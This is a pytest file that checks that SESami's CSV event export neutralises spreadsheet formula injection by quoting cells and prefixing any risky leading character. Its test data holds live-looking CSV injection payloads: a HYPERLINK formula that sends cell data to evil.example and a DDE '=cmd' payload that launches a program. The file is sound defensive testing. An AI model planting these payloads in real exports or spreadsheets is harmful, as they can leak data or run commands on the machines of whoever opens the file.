"""CSV injection (OWASP): no cell of SESami's CSV export opens as a formula in a spreadsheet.
A cell starting with `=`, `+`, `-`, `@`, tab or CR gets a leading single quote, and every cell
is quoted. Through GET /events?format=csv on DynamoDB Local with real ingest; the dashboard's
export is this same CSV (activity.js joins the pages), so it is covered by the same test."""

from __future__ import annotations

import copy
import csv
import io
import secrets
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from chalicelib.core import csv_cells
from chalicelib.core.addresses import parse
from chalicelib.core.tables import AccountModel
from chalicelib.ingest.directory import TenantDirectory
from chalicelib.ingest.pipeline import Outcome, ingest_envelopes
from chalicelib.ingest.store import EventStore

from tests.api_fixtures import call, sign_in
from tests.conftest import ROOT, load_event
from tests.support import BOUND_LONG_AGO

FORMULA_ADDRESS = "=1+1@x.com"
SUBJECTS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", [*SUBJECTS, FORMULA_ADDRESS])
def test_a_cell_that_starts_like_a_formula_is_quoted_text(value: str) -> None:
    out = io.StringIO()
    csv_cells.writer(out).writerow([value, "plain", None, 3])
    [row] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["'" + value, "plain", "", "3"]
    assert out.getvalue().startswith("\"'")  # every cell quoted


def test_ordinary_cells_are_left_as_they_are() -> None:
    for value in ("alice@example.com", "Hello", "a=b", "x-y", "", "'already"):
        assert csv_cells.cell(value) == value


def test_the_formula_address_passes_validation() -> None:
    assert parse(FORMULA_ADDRESS).key == FORMULA_ADDRESS


def _send(account: str, subject: str, at: datetime) -> dict[str, Any]:
    event = copy.deepcopy(load_event("send"))
    mail = event["detail"]["mail"]
    mail["messageId"] = f"csv-{uuid.uuid4().hex}"
    mail["timestamp"] = at.isoformat().replace("+00:00", "Z")
    mail["destination"] = [FORMULA_ADDRESS]
    mail["commonHeaders"]["subject"] = subject
    mail["tags"]["campaign"] = ["=cmd|' /C calc'!A0"]
    event.update(account=account, id=str(uuid.uuid4()), time=mail["timestamp"])
    return event


def test_the_events_export_neutralises_formula_cells(
    api: Any, moto: str, pool: dict[str, str], settings: Any
) -> None:
    token = sign_in(moto, pool)
    tenant_id = call(api, "GET", "/account", token).json_body["tenant_id"]
    account = "".join(secrets.choice("0123456789") for _ in range(12))
    AccountModel(account, tenant_id=tenant_id, bound_at=BOUND_LONG_AGO).save()
    at = datetime.now(UTC) - timedelta(hours=1)
    envelopes = [_send(account, s, at - timedelta(seconds=i)) for i, s in enumerate(SUBJECTS)]
    report = ingest_envelopes(envelopes, tenants=TenantDirectory(0), store=EventStore(settings))
    assert report.outcomes == [Outcome.STORED] * len(SUBJECTS)

    response = api.http.get(
        "/events?range=24h&format=csv", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 200
    text = response.body.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["subject"] for r in rows) == sorted("'" + s for s in SUBJECTS)
    assert {r["recipient"] for r in rows} == {"'" + FORMULA_ADDRESS}
    for row in rows:
        for value in row.values():
            assert not value.startswith(csv_cells.FORMULA_STARTS), row
    # The header is the plain column names; every other line is quoted cells, so that no
    # separator inside a cell can start a new one.
    header, *lines = [line for line in text.split("\r\n") if line]
    assert header.startswith("at,status,")
    assert lines and all(line.startswith('"') for line in lines), text[:200]
    assert sum(1 for _ in csv.reader(io.StringIO(text, newline=""))) == len(SUBJECTS) + 1


def test_the_dashboard_writes_no_csv_of_its_own() -> None:
    """The dashboard's export downloads the API's CSV as it is; no script builds CSV cells. If
    one ever does, it must neutralise them too: this test is the reminder."""
    scripts = (ROOT / "app" / "chalicelib" / "web" / "dashboard").glob("*.js")
    writers = [p.name for p in scripts if "text/csv" in p.read_text()]
    assert writers == ["activity.js"]
    source = (ROOT / "app/chalicelib/web/dashboard/activity.js").read_text()
    assert 'format: "csv"' in source  # the API's export, fetched page by page
